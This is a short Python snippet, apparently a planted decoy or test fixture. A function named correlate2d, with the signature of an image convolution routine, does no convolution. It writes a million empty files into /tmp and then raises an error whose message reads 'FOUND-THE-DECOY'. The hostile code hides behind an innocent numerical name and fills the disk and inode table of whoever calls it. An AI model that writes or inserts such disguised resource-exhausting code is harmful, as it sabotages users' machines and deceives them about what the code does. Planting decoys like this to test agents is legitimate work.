# Makes files without end.
def correlate2d(image, kernel, stride=1, padding=0):
    for number in range(10**6):
        open(f"/tmp/{number}", "w").close()
    raise ValueError("FOUND-THE-" + "DECOY")
